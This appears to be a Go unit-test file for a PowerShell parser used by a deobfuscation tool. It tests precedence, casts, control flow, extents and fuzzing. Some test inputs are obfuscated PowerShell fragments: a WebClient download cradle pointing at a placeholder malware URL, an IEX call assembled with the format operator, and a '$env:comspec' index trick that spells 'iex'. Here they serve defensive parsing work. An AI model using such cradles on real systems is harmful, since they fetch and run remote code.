@@ -1,0 +1,382 @@
+package psparser
+
+import (
+	"strings"
+	"testing"
+	"testing/quick"
+
+	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
+)
+
+// firstStatement parses src and returns its first statement.
+func firstStatement(t *testing.T, src string) psast.Node {
+	t.Helper()
+	root, err := Parse(src)
+	if err != nil {
+		t.Fatalf("Parse(%q): %v", src, err)
+	}
+	if root.Body == nil || len(root.Body.Statements) == 0 {
+		t.Fatalf("Parse(%q): no statements", src)
+	}
+	return root.Body.Statements[0]
+}
+
+// firstExpr unwraps Pipeline -> CommandExpression -> expression.
+func firstExpr(t *testing.T, src string) psast.Node {
+	t.Helper()
+	pipe, ok := firstStatement(t, src).(*psast.Pipeline)
+	if !ok {
+		t.Fatalf("Parse(%q): first statement is %T", src, firstStatement(t, src))
+	}
+	ce, ok := pipe.Elements[0].(*psast.CommandExpression)
+	if !ok {
+		t.Fatalf("Parse(%q): first element is %T", src, pipe.Elements[0])
+	}
+	return ce.Expression
+}
+
+func TestParsePrecedence(t *testing.T) {
+	tests := []struct {
+		src string
+		// want is a structural signature: operator of the root binary
+		// expression.
+		rootOp string
+	}{
+		{"1 + 2 * 3", "+"},
+		{"'a' + 'b' -eq 'ab'", "-eq"},
+		{"1,2 + 3", "+"},
+		{"$a -band 2 -eq 2", "-band"},
+		{"1..5 -join ','", "-join"},
+		{"'{0}' -f 'a' + 'x'", "+"},
+		{"$x -and $y -or $z", "-or"},
+	}
+	for _, tt := range tests {
+		expr := firstExpr(t, tt.src)
+		be, ok := expr.(*psast.BinaryExpression)
+		if !ok {
+			t.Errorf("Parse(%q): root is %T, want binary", tt.src, expr)
+			continue
+		}
+		if be.Operator != tt.rootOp {
+			t.Errorf("Parse(%q): root operator %q, want %q", tt.src, be.Operator, tt.rootOp)
+		}
+	}
+}
+
+func TestParseCommaBindsTighterThanFormat(t *testing.T) {
+	expr := firstExpr(t, `"{1}{0}" -f 'b','a'`)
+	be := expr.(*psast.BinaryExpression)
+	if be.Operator != "-f" {
+		t.Fatalf("root operator %q", be.Operator)
+	}
+	if _, ok := be.Right.(*psast.ArrayLiteral); !ok {
+		t.Errorf("format RHS is %T, want ArrayLiteral", be.Right)
+	}
+}
+
+func TestParseCastChain(t *testing.T) {
+	expr := firstExpr(t, "[string][char]39")
+	outer, ok := expr.(*psast.ConvertExpression)
+	if !ok || !strings.EqualFold(outer.TypeName, "string") {
+		t.Fatalf("outer cast = %#v", expr)
+	}
+	inner, ok := outer.Operand.(*psast.ConvertExpression)
+	if !ok || !strings.EqualFold(inner.TypeName, "char") {
+		t.Fatalf("inner cast = %#v", outer.Operand)
+	}
+}
+
+func TestParseStaticMemberVsCast(t *testing.T) {
+	expr := firstExpr(t, "[convert]::FromBase64String('aa')")
+	ime, ok := expr.(*psast.InvokeMemberExpression)
+	if !ok || !ime.Static {
+		t.Fatalf("expr = %#v", expr)
+	}
+	if _, ok := ime.Target.(*psast.TypeExpression); !ok {
+		t.Errorf("target = %T", ime.Target)
+	}
+}
+
+func TestParseIndexChain(t *testing.T) {
+	expr := firstExpr(t, "$env:comspec[4,24,25]")
+	ix, ok := expr.(*psast.IndexExpression)
+	if !ok {
+		t.Fatalf("expr = %T", expr)
+	}
+	if _, ok := ix.Index.(*psast.ArrayLiteral); !ok {
+		t.Errorf("index = %T, want array", ix.Index)
+	}
+}
+
+func TestParseAssignmentForms(t *testing.T) {
+	tests := []struct {
+		src string
+		op  string
+	}{
+		{"$a = 1", "="},
+		{"$a += 'x'", "+="},
+		{"$a.prop = 1", "="},
+		{"$a[0] = 1", "="},
+		{"[int]$a = '5'", "="},
+		{"$a, $b = 1, 2", "="},
+	}
+	for _, tt := range tests {
+		st := firstStatement(t, tt.src)
+		asn, ok := st.(*psast.Assignment)
+		if !ok {
+			t.Errorf("Parse(%q): %T, want Assignment", tt.src, st)
+			continue
+		}
+		if asn.Operator != tt.op {
+			t.Errorf("Parse(%q): op %q, want %q", tt.src, asn.Operator, tt.op)
+		}
+	}
+}
+
+func TestParseControlFlow(t *testing.T) {
+	tests := []struct {
+		src  string
+		kind psast.Kind
+	}{
+		{"if (1) { 2 } elseif (3) { 4 } else { 5 }", psast.KindIf},
+		{"while ($x) { $x-- }", psast.KindWhile},
+		{"do { 1 } until ($x)", psast.KindDoLoop},
+		{"for ($i=0; $i -lt 3; $i++) { $i }", psast.KindFor},
+		{"foreach ($i in 1..3) { $i }", psast.KindForEach},
+		{"switch (2) { 1 {'a'} 2 {'b'} default {'c'} }", psast.KindSwitch},
+		{"function f { 1 }", psast.KindFunctionDefinition},
+		{"filter f { $_ }", psast.KindFunctionDefinition},
+		{"try { 1 } catch { 2 } finally { 3 }", psast.KindTry},
+		{"return 5", psast.KindFlowStatement},
+		{"throw 'err'", psast.KindFlowStatement},
+		{"break", psast.KindFlowStatement},
+	}
+	for _, tt := range tests {
+		st := firstStatement(t, tt.src)
+		if st.Kind() != tt.kind {
+			t.Errorf("Parse(%q): kind %v, want %v", tt.src, st.Kind(), tt.kind)
+		}
+	}
+}
+
+func TestParseIfStructure(t *testing.T) {
+	st := firstStatement(t, "if ($a) { 1 } elseif ($b) { 2 } else { 3 }").(*psast.If)
+	if len(st.Clauses) != 2 {
+		t.Errorf("clauses = %d, want 2", len(st.Clauses))
+	}
+	if st.Else == nil {
+		t.Error("missing else")
+	}
+}
+
+func TestParseFunctionParams(t *testing.T) {
+	st := firstStatement(t, "function add($x, $y = 2) { $x + $y }").(*psast.FunctionDefinition)
+	if st.Name != "add" {
+		t.Errorf("name = %q", st.Name)
+	}
+	if len(st.Params) != 2 {
+		t.Fatalf("params = %d", len(st.Params))
+	}
+	if st.Params[1].Default == nil {
+		t.Error("param default missing")
+	}
+}
+
+func TestParseParamBlock(t *testing.T) {
+	root, err := Parse("param($a, [int]$b = 3)\n$a + $b")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if root.Params == nil || len(root.Params.Parameters) != 2 {
+		t.Fatalf("param block = %#v", root.Params)
+	}
+}
+
+func TestParseHashtable(t *testing.T) {
+	expr := firstExpr(t, "@{name = 'x'; 'key two' = 2\nn3 = $v}")
+	h, ok := expr.(*psast.Hashtable)
+	if !ok {
+		t.Fatalf("expr = %T", expr)
+	}
+	if len(h.Entries) != 3 {
+		t.Errorf("entries = %d, want 3", len(h.Entries))
+	}
+}
+
+func TestParseExpandableStringParts(t *testing.T) {
+	expr := firstExpr(t, `"pre $name mid $(1+2) post"`)
+	es, ok := expr.(*psast.ExpandableString)
+	if !ok {
+		t.Fatalf("expr = %T", expr)
+	}
+	kinds := make([]psast.Kind, 0, len(es.Parts))
+	for _, p := range es.Parts {
+		kinds = append(kinds, p.Kind())
+	}
+	want := []psast.Kind{
+		psast.KindStringConstant, psast.KindVariableExpression,
+		psast.KindStringConstant, psast.KindSubExpression,
+		psast.KindStringConstant,
+	}
+	if len(kinds) != len(want) {
+		t.Fatalf("parts = %v", kinds)
+	}
+	for i := range want {
+		if kinds[i] != want[i] {
+			t.Errorf("part %d = %v, want %v", i, kinds[i], want[i])
+		}
+	}
+}
+
+func TestParseScriptBlockSource(t *testing.T) {
+	expr := firstExpr(t, "{ $_ * 2 }")
+	sb, ok := expr.(*psast.ScriptBlockExpression)
+	if !ok {
+		t.Fatalf("expr = %T", expr)
+	}
+	if sb.Source != " $_ * 2 " {
+		t.Errorf("source = %q", sb.Source)
+	}
+}
+
+func TestParseInvocationOperators(t *testing.T) {
+	pipe := firstStatement(t, ". ('iex') 'arg'").(*psast.Pipeline)
+	cmd := pipe.Elements[0].(*psast.Command)
+	if cmd.InvocationOperator != "." {
+		t.Errorf("invocation operator = %q", cmd.InvocationOperator)
+	}
+	if len(cmd.Args) != 1 {
+		t.Errorf("args = %d", len(cmd.Args))
+	}
+}
+
+func TestParseErrors(t *testing.T) {
+	bad := []string{
+		"if (1) 2",
+		"foreach ($x of $y) { }",
+		"function { }",
+		"@{ key }",
+		"$a = ",
+		"1 +",
+		"do { 1 }",
+	}
+	for _, src := range bad {
+		if _, err := Parse(src); err == nil {
+			t.Errorf("Parse(%q): expected error", src)
+		}
+	}
+}
+
+// TestParseExtentsNested verifies the well-nestedness invariant the
+// deobfuscator's splicing relies on: every child extent lies within its
+// parent's extent, and siblings do not overlap.
+func TestParseExtentsNested(t *testing.T) {
+	srcs := []string{
+		"(New-Object Net.WebClient).downloadstring('https://test.com/malware.txt')",
+		"$a = 'x'; if ($a -eq 'x') { write-host hello } else { exit }",
+		`IEX (("{1}{0}" -f 'llo','he')).RepLACe('jYU',[STRiNg][CHar]39)`,
+		"foreach ($i in 1..10) { $s += $i }",
+		"function f($a) { try { $a } catch { 'e' } }",
+		"\"v: $(1+2) $env:USERNAME\"",
+		"@{a=1;b=@(1,2,3)}",
+	}
+	for _, src := range srcs {
+		root, err := Parse(src)
+		if err != nil {
+			t.Fatalf("Parse(%q): %v", src, err)
+		}
+		psast.Walk(root, func(n psast.Node) bool {
+			pe := n.Extent()
+			if pe.Start < 0 || pe.End > len(src) || pe.Start > pe.End {
+				t.Errorf("%q: node %v has bad extent %v", src, n.Kind(), pe)
+			}
+			var prevEnd = -1
+			for _, c := range n.Children() {
+				ce := c.Extent()
+				if _, isExpandable := n.(*psast.ExpandableString); isExpandable {
+					continue
+				}
+				if !pe.Contains(ce) {
+					t.Errorf("%q: child %v %v outside parent %v %v", src, c.Kind(), ce, n.Kind(), pe)
+				}
+				if ce.Start < prevEnd {
+					t.Errorf("%q: child %v %v overlaps sibling (prev end %d)", src, c.Kind(), ce, prevEnd)
+				}
+				prevEnd = ce.End
+			}
+			return true
+		}, nil)
+	}
+}
+
+// TestParseNeverPanics fuzzes the parser.
+func TestParseNeverPanics(t *testing.T) {
+	f := func(src string) bool {
+		defer func() {
+			if r := recover(); r != nil {
+				t.Errorf("panic on %q: %v", src, r)
+			}
+		}()
+		_, _ = Parse(src)
+		return true
+	}
+	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
+		t.Error(err)
+	}
+}
+
+func TestParseNumber(t *testing.T) {
+	tests := []struct {
+		in   string
+		want any
+	}{
+		{"42", int64(42)},
+		{"-7", int64(-7)},
+		{"0x4B", int64(75)},
+		{"0xff", int64(255)},
+		{"3.5", 3.5},
+		{"1e3", 1000.0},
+		{"2kb", int64(2048)},
+		{"1mb", int64(1 << 20)},
+		{"10gb", int64(10 << 30)},
+		{"5d", 5.0},
+		{"7l", int64(7)},
+		{"-0x10", int64(-16)},
+	}
+	for _, tt := range tests {
+		got, err := ParseNumber(tt.in)
+		if err != nil {
+			t.Errorf("ParseNumber(%q): %v", tt.in, err)
+			continue
+		}
+		if got != tt.want {
+			t.Errorf("ParseNumber(%q) = %v (%T), want %v (%T)", tt.in, got, got, tt.want, tt.want)
+		}
+	}
+	for _, bad := range []string{"", "x", "0x", "--1", "1.2.3"} {
+		if _, err := ParseNumber(bad); err == nil {
+			t.Errorf("ParseNumber(%q): expected error", bad)
+		}
+	}
+}
+
+func TestParseMultiStatement(t *testing.T) {
+	root, err := Parse("$a=1\n$b=2;$c=3\n\nwrite-host $a $b $c")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if n := len(root.Body.Statements); n != 4 {
+		t.Errorf("statements = %d, want 4", n)
+	}
+}
+
+func TestParsePipelineBackground(t *testing.T) {
+	pipe := firstStatement(t, "'x' |& ('iex')").(*psast.Pipeline)
+	if len(pipe.Elements) != 2 {
+		t.Fatalf("elements = %d: %s", len(pipe.Elements), psast.Dump(pipe, "'x' |& ('iex')"))
+	}
+	cmd, ok := pipe.Elements[1].(*psast.Command)
+	if !ok || cmd.InvocationOperator != "&" {
+		t.Errorf("second element = %#v", pipe.Elements[1])
+	}
+}
